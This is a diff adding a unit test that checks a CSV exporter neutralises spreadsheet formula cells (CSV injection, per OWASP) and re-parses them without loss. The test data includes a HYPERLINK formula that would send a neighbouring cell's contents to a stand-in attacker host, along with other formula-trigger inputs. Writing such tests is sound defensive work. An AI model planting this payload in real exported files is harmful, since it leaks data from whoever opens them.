@@ -75,6 +75,24 @@ describe('CSV export (RFC 4180)', () => {
     expect(splitList('')).toEqual([]);
   });
 
+  it('neutralises cells a spreadsheet would run as a formula (OWASP), and re-parses them losslessly', () => {
+    const attack = '=HYPERLINK("http://evil.invalid/?leak="&B3,"Open")';
+    const risky = [attack, '+1+2', '-2+3', '@SUM(A1)', '\tx', '\r=1', "'=quoted", "''+twice", "'plain"];
+    const list = risky.map((name, i) => ext({ id: String(i), number: String(100 + i), name }));
+    list.push(ext({ id: 'cid', number: '200', externalCid: { name: '', number: '+34911' } }));
+    list.push(ext({ id: 'q', number: '201', queues: [{ id: '9', name: '=cmd', penalty: 0 }] }));
+    const csv = toCsv(list);
+    const records = parseCsvRecords(csv).slice(1);
+    // Every cell as a spreadsheet reads it: none may start with a formula trigger.
+    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(records[0]?.[1]).toBe(`'${attack}`);
+    expect(csv).toContain(`"'${attack.replace(/"/g, '""')}"`);
+    expect(records[6]?.[1]).toBe("''=quoted");
+    expect(records[8]?.[1]).toBe("'plain");
+    expect(records.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
+    expect(parseCsv(csv)).toEqual(list.map(toRow));
+  });
+
   it('rejects a file that is not a directory export', () => {
     expect(() => parseCsv('a,b\r\n1,2\r\n')).toThrow(/not a directory CSV/);
   });
